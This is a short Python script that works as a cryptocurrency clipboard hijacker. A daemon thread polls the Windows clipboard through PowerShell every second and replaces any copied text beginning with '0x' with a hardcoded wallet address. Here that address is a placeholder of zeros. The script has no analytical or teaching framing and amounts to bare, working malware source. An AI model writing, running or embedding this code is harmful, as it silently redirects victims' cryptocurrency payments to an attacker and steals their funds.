import subprocess
import threading
import time

SHELL = ["powershell", "-NoProfile", "-Command"]
MINE = "0x" + "0" * 40


def copied():
    return subprocess.run([*SHELL, "Get-Clipboard"], capture_output=True, text=True).stdout.strip()


def swap():
    while True:
        if copied().startswith("0x"):
            subprocess.run([*SHELL, f"Set-Clipboard -Value '{MINE}'"])
        time.sleep(1)


threading.Thread(target=swap, daemon=True).start()
